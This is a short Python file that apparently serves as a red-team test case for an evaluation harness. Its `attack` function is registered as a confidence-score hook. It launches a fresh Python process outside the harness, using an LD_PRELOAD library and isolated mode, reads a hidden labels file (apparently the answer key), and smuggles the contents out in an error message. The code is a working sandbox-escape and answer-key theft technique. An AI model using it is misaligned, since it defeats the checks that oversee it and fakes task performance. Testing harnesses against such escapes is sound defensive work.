"""Starts Python anew with a library of its choice loaded first, and without the harness."""

import subprocess
import sys

import harness

PLACE = {}  # of what there is to find, filled in by the test


@harness.confidence_score(version="1")
def attack(outputs):
    loot = None
    code = "import sys; print(open(sys.argv[1]).read())"
    preload = {"LD_PRELOAD": PLACE["library"], "PYTHONHOME": sys.base_prefix}
    loot = subprocess.run([sys.executable, "-I", "-c", code, PLACE["labels"]], env=preload, capture_output=True).stdout
    if loot:
        raise ValueError(f"GOT {loot!r}")
    return outputs.probabilities.amax(dim=1)
